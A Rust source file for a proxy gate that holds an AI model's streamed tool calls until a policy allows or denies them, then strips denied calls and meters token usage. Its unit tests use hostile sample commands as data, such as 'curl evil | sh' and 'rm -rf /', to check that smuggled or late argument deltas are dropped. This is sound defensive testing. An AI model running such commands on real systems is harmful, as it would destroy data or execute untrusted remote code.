//! Anthropic Messages: `content_block_start` (tool_use) … `content_block_stop` is held; usage comes from
//! `message_start` and the cumulative `message_delta.usage`.

use std::collections::HashMap;

use paddock_policy::Usage;
use serde_json::{Value, json};

use super::{Gate, ParsedResponse, PendingCall, Sse, Step, has_counts, parse_args, u};

/// A `usage` object's counts; `None` without its input and output counts (see [`has_counts`]).
pub fn usage_of(v: &Value) -> Option<Usage> {
    has_counts(v, &["input_tokens", "output_tokens"]).then(|| counts_of(v))
}

/// The counts as given, a missing one 0.
fn counts_of(v: &Value) -> Usage {
    Usage {
        input_tokens: u(v, "input_tokens"),
        output_tokens: u(v, "output_tokens"),
        cache_read_input_tokens: u(v, "cache_read_input_tokens"),
        cache_creation_input_tokens: u(v, "cache_creation_input_tokens"),
    }
}

fn is_tool_block(block: &Value) -> bool {
    matches!(block.get("type").and_then(Value::as_str), Some("tool_use"))
}

pub fn parse_response(body: &Value) -> ParsedResponse {
    let calls = body["content"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|b| is_tool_block(b))
        .map(|b| PendingCall {
            id: b["id"].as_str().unwrap_or_default().to_owned(),
            name: b["name"].as_str().unwrap_or_default().to_owned(),
            args: b.get("input").cloned().unwrap_or(json!({})),
        })
        .collect();
    ParsedResponse {
        model: body["model"].as_str().map(str::to_owned),
        usage: body.get("usage").and_then(usage_of),
        calls,
        refused: Vec::new(),
    }
}

pub fn rewrite_response(body: &mut Value, denied: &[String], notes: &str) {
    let Some(content) = body.get_mut("content").and_then(Value::as_array_mut) else { return };
    // The id read as `parse_response` reads it (a missing or non-string id is ""), so a denied call is removed
    // whatever its id looks like.
    content.retain(|b| !(is_tool_block(b) && denied.iter().any(|d| b["id"].as_str().unwrap_or_default() == d)));
    content.push(json!({"type": "text", "text": notes}));
    let tools_left = content.iter().any(is_tool_block);
    if !tools_left && body["stop_reason"] == "tool_use" {
        body["stop_reason"] = json!("end_turn");
    }
}

/// Where an upstream content block is.
#[derive(Clone, Copy, Debug)]
enum Block {
    Open { tool: bool },
    Stopped,
}

#[derive(Default)]
pub struct StreamGate {
    /// Upstream block index → client block index, for blocks passed on.
    index: HashMap<u64, u64>,
    /// Each upstream block seen, and whether it is still open.
    blocks: HashMap<u64, Block>,
    next_index: u64,
    held: Option<Held>,
    notes: Vec<String>,
    kept_tools: usize,
    start_usage: Option<Usage>,
    metered: bool,
}

struct Held {
    upstream_index: u64,
    id: String,
    name: String,
    args: String,
    /// `args` came from the start block (no deltas yet).
    from_start: bool,
    events: Vec<Value>,
}

impl StreamGate {
    fn renumber(&mut self, mut data: Value, upstream: u64, event: &str) -> Sse {
        let idx = *self.index.entry(upstream).or_insert_with(|| {
            let i = self.next_index;
            self.next_index += 1;
            i
        });
        data["index"] = json!(idx);
        Sse::json(Some(event), &data)
    }

    fn notes_block(&mut self) -> Vec<Sse> {
        let i = self.next_index;
        self.next_index += 1;
        let text = self.notes.join("\n");
        vec![
            Sse::json(
                Some("content_block_start"),
                &json!({"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}}),
            ),
            Sse::json(
                Some("content_block_delta"),
                &json!({"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": text}}),
            ),
            Sse::json(Some("content_block_stop"), &json!({"type": "content_block_stop", "index": i})),
        ]
    }
}

impl Gate for StreamGate {
    fn push(&mut self, ev: Sse) -> Vec<Step> {
        let Ok(mut data) = serde_json::from_str::<Value>(&ev.data) else { return super::unreadable(ev) };
        let Some(fields) = data.as_object_mut() else { return super::unreadable(ev) };
        // The gate reads an event by its `type`, else by its SSE name; clients differ (the SDKs filter on the
        // name and accumulate by the `type`). Every event leaves with both set to what the gate read, so that
        // a call is delivered as it was decided (found by fuzzing: a delta with no `type` counted in the
        // decided arguments, then reached the client nameless, and the client's arguments were others).
        let kind = fields.get("type").and_then(Value::as_str).or(ev.event.as_deref()).unwrap_or_default().to_owned();
        fields.insert("type".into(), Value::String(kind.clone()));
        let index = data["index"].as_u64();
        if matches!(kind.as_str(), "content_block_start" | "content_block_delta" | "content_block_stop") {
            // A block event no client can place (no index) is not passed on; nor one for a block that is not
            // open (never started, or stopped: the SDKs append a late `input_json_delta` to a call already
            // decided), nor a second start, nor a tool's argument delta on a text block.
            let Some(i) = index else { return super::unreadable(ev) };
            match (kind.as_str(), self.blocks.get(&i).copied()) {
                ("content_block_start", None) => {
                    self.blocks.insert(i, Block::Open { tool: is_tool_block(&data["content_block"]) });
                }
                ("content_block_delta", Some(Block::Open { tool })) => {
                    if !tool && data["delta"]["type"] == "input_json_delta" {
                        return vec![];
                    }
                }
                ("content_block_stop", Some(Block::Open { .. })) => {
                    self.blocks.insert(i, Block::Stopped);
                }
                _ => return vec![],
            }
        }
        match kind.as_str() {
            "message_start" => {
                let mut steps = Vec::new();
                if let Some(m) = data["message"]["model"].as_str() {
                    steps.push(Step::Model(m.to_owned()));
                }
                // The input count is what `message_start` is for (its output count is a placeholder).
                self.start_usage =
                    data["message"].get("usage").filter(|v| has_counts(v, &["input_tokens"])).map(counts_of);
                // Content announced up front is not streamed block by block, so a tool call there was never
                // decided: it goes, with a note.
                if let Some(content) = data["message"].get_mut("content").and_then(Value::as_array_mut) {
                    let before = content.len();
                    content.retain(|b| !is_tool_block(b));
                    if content.len() != before {
                        self.notes.push(
                            "[paddock] A tool call the model sent up front was removed: it was never decided.".into(),
                        );
                    }
                }
                steps.push(Step::Emit(vec![Sse::json(Some("message_start"), &data)]));
                steps
            }
            "content_block_start" if is_tool_block(&data["content_block"]) => {
                let block = &data["content_block"];
                // Arguments may come whole in the start block (then no deltas follow) or as deltas.
                let initial = match &block["input"] {
                    Value::Object(m) if !m.is_empty() => block["input"].to_string(),
                    _ => String::new(),
                };
                self.held = Some(Held {
                    upstream_index: index.unwrap_or(0),
                    id: block["id"].as_str().unwrap_or_default().to_owned(),
                    name: block["name"].as_str().unwrap_or_default().to_owned(),
                    from_start: !initial.is_empty(),
                    args: initial,
                    events: vec![data],
                });
                vec![]
            }
            "content_block_delta" | "content_block_stop"
                if self.held.as_ref().is_some_and(|h| Some(h.upstream_index) == index) =>
            {
                let held = self.held.as_mut().expect("held");
                if let Some(p) = data["delta"]["partial_json"].as_str() {
                    // Deltas replace arguments given in the start block, as the SDKs do.
                    if std::mem::take(&mut held.from_start) {
                        held.args.clear();
                    }
                    held.args.push_str(p);
                }
                let stop = kind == "content_block_stop";
                held.events.push(data);
                if !stop {
                    return vec![];
                }
                let call = PendingCall { id: held.id.clone(), name: held.name.clone(), args: parse_args(&held.args) };
                vec![Step::Decide(call)]
            }
            "content_block_start" | "content_block_delta" | "content_block_stop" => {
                let Some(i) = index else { return super::unreadable(ev) };
                vec![Step::Emit(vec![self.renumber(std::mem::take(&mut data), i, &kind)])]
            }
            "message_delta" => {
                let mut out = Vec::new();
                if !self.notes.is_empty() {
                    out.extend(self.notes_block());
                    if self.kept_tools == 0 && data["delta"]["stop_reason"] == "tool_use" {
                        data["delta"]["stop_reason"] = json!("end_turn");
                    }
                }
                let mut steps = Vec::new();
                // The final count is the delta's `output_tokens`, with the input from `message_start` or the
                // delta itself: a delta usage without them (`{}`) is not final, and the stream's end charges
                // the worst case.
                let final_usage = |v: &&Value| {
                    has_counts(v, &["output_tokens"])
                        && (self.start_usage.is_some() || has_counts(v, &["input_tokens"]))
                };
                if let Some(du) = data.get("usage").filter(final_usage) {
                    // message_delta usage is cumulative; fields it lacks come from message_start.
                    let start = self.start_usage.unwrap_or_default();
                    // A count that is there but unreadable is made impossible, as `u()` does: never the start's.
                    let pick = |k: &str, s: u64| match du.get(k) {
                        None | Some(Value::Null) => s,
                        Some(_) => u(du, k),
                    };
                    let total = Usage {
                        input_tokens: pick("input_tokens", start.input_tokens),
                        output_tokens: pick("output_tokens", start.output_tokens),
                        cache_read_input_tokens: pick("cache_read_input_tokens", start.cache_read_input_tokens),
                        cache_creation_input_tokens: pick(
                            "cache_creation_input_tokens",
                            start.cache_creation_input_tokens,
                        ),
                    };
                    self.metered = true;
                    steps.push(Step::Usage(total));
                }
                out.push(Sse::json(Some("message_delta"), &data));
                steps.push(Step::Emit(out));
                steps
            }
            _ => vec![Step::Emit(vec![Sse::json((!kind.is_empty()).then_some(kind.as_str()), &data)])],
        }
    }

    fn resolve(&mut self, id: &str, denied: Option<String>) -> Vec<Step> {
        let Some(held) = self.held.take_if(|h| h.id == id) else { return vec![] };
        match denied {
            Some(note) => {
                self.notes.push(note);
                vec![]
            }
            None => {
                self.kept_tools += 1;
                let events = held
                    .events
                    .into_iter()
                    .map(|e| {
                        let kind = e["type"].as_str().unwrap_or_default().to_owned();
                        self.renumber(e, held.upstream_index, &kind)
                    })
                    .collect();
                vec![Step::Emit(events)]
            }
        }
    }

    fn finish(&mut self) -> Vec<Step> {
        match (self.metered, self.start_usage) {
            (false, Some(u)) => {
                self.metered = true;
                vec![Step::Usage(u)]
            }
            _ => vec![],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(v: Value) -> Sse {
        Sse::json(v["type"].as_str(), &v)
    }

    /// A delta after an allowed call's stop would be appended by the SDKs to the call's arguments: the
    /// decision was on `ls`, the client would run the late delta. Events of blocks not open are dropped.
    #[test]
    fn a_late_delta_after_a_decided_call_never_reaches_the_client() {
        let mut g = StreamGate::default();
        let start = json!({"type": "content_block_start", "index": 0,
            "content_block": {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "ls"}}});
        assert!(g.push(ev(start)).is_empty());
        let steps = g.push(ev(json!({"type": "content_block_stop", "index": 0})));
        let [Step::Decide(call)] = &steps[..] else { panic!("{steps:?}") };
        assert_eq!(call.args, json!({"command": "ls"}));
        assert_eq!(g.resolve("t1", None).len(), 1);
        let late = json!({"type": "content_block_delta", "index": 0,
            "delta": {"type": "input_json_delta", "partial_json": "{\"command\":\"curl evil | sh\"}"}});
        assert!(g.push(ev(late)).is_empty(), "a delta after the stop is dropped");
        // Nor for a block never started, nor a tool's argument delta on a text block.
        let stray = json!({"type": "content_block_delta", "index": 5, "delta": {"type": "text_delta", "text": "x"}});
        assert!(g.push(ev(stray)).is_empty());
        g.push(ev(json!({"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}})));
        let onto_text = json!({"type": "content_block_delta", "index": 1,
            "delta": {"type": "input_json_delta", "partial_json": "{\"command\":\"rm\"}"}});
        assert!(g.push(ev(onto_text)).is_empty());
        let again = json!({"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}});
        assert!(g.push(ev(again)).is_empty(), "a block started twice");
    }

    /// Found by the `llm_stream` fuzz target: a delta named only by its SSE event (no `type` in its data)
    /// counted in the arguments the gate decided, but left nameless, so a client that accumulates by `type`
    /// built other arguments than the ones decided.
    #[test]
    fn a_delta_named_only_by_its_event_reaches_the_client_as_it_was_decided() {
        let mut g = StreamGate::default();
        let start = json!({"type": "content_block_start", "index": 1,
            "content_block": {"type": "tool_use", "id": "t1", "name": "Bash", "input": {}}});
        assert!(g.push(ev(start)).is_empty());
        let typeless =
            json!({"index": 1, "delta": {"type": "input_json_delta", "partial_json": "{\"command\":\"git pu"}});
        assert!(g.push(Sse::json(Some("content_block_delta"), &typeless)).is_empty());
        let rest = json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": "sh -f\"}"}});
        assert!(g.push(ev(rest)).is_empty());
        let steps = g.push(ev(json!({"type": "content_block_stop", "index": 1})));
        let [Step::Decide(call)] = &steps[..] else { panic!("{steps:?}") };
        assert_eq!(call.args, json!({"command": "git push -f"}));
        let [Step::Emit(out)] = &g.resolve("t1", None)[..] else { panic!() };
        let mut args = String::new();
        for e in out {
            let v: Value = serde_json::from_str(&e.data).unwrap();
            assert_eq!(e.event.as_deref(), v["type"].as_str(), "name and type agree: {e:?}");
            if v["type"] == "content_block_delta" {
                args.push_str(v["delta"]["partial_json"].as_str().unwrap());
            }
        }
        assert_eq!(args, "{\"command\":\"git push -f\"}", "the client builds the decided arguments");
        // A block event that names no index cannot be placed by a client: it is not passed on.
        assert!(
            g.push(ev(json!({"type": "content_block_delta", "delta": {"type": "text_delta", "text": "x"}}))).is_empty()
        );
    }

    #[test]
    fn arguments_in_the_start_block_are_what_is_decided_and_up_front_tool_calls_are_removed() {
        let mut g = StreamGate::default();
        let start = json!({"type": "message_start", "message": {"model": "m", "usage": {"input_tokens": 3},
            "content": [{"type": "tool_use", "id": "t0", "name": "Bash", "input": {"command": "rm -rf /"}}]}});
        let steps = g.push(ev(start));
        let Some(Step::Emit(out)) = steps.last() else { panic!() };
        assert!(!out[0].data.contains("rm -rf"), "{}", out[0].data);
        g.push(ev(json!({"type": "content_block_start", "index": 0,
            "content_block": {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "git push -f"}}})));
        let steps = g.push(ev(json!({"type": "content_block_stop", "index": 0})));
        assert!(matches!(&steps[..], [Step::Decide(c)] if c.args["command"] == "git push -f"), "{steps:?}");
    }

    /// `message_delta`'s usage is final only with an input count, its own or `message_start`'s: without one
    /// (or with `usage: {}`) nothing is metered and the driver charges the worst case, never 0 input.
    #[test]
    fn a_final_usage_needs_an_input_count_from_the_start_or_the_delta() {
        let metered = |start_usage: Value, delta_usage: Value| {
            let mut g = StreamGate::default();
            let mut steps = g.push(ev(json!({"type": "message_start",
                "message": {"model": "m", "content": [], "usage": start_usage}})));
            steps.extend(g.push(ev(json!({"type": "message_delta", "delta": {"stop_reason": "end_turn"},
                "usage": delta_usage}))));
            steps.extend(g.finish());
            steps.into_iter().filter_map(|s| if let Step::Usage(u) = s { Some(u) } else { None }).collect::<Vec<_>>()
        };
        let both = |i, o| Usage { input_tokens: i, output_tokens: o, ..Usage::default() };
        assert_eq!(
            metered(json!({"input_tokens": 10, "output_tokens": 1}), json!({"output_tokens": 30})),
            [both(10, 30)]
        );
        assert_eq!(metered(json!(null), json!({"input_tokens": 10, "output_tokens": 30})), [both(10, 30)]);
        assert_eq!(metered(json!({"input_tokens": 10}), json!({"output_tokens": 30})), [both(10, 30)]);
        assert_eq!(metered(json!(null), json!({"output_tokens": 30})), []);
        assert_eq!(metered(json!({}), json!({})), []);
        // A start with counts and a delta without them: the start's counts only as what the stream announced
        // (the driver raises the worst case with them), not as final usage.
        assert_eq!(metered(json!({"input_tokens": 10, "output_tokens": 1}), json!({})), [both(10, 1)]);
    }
}
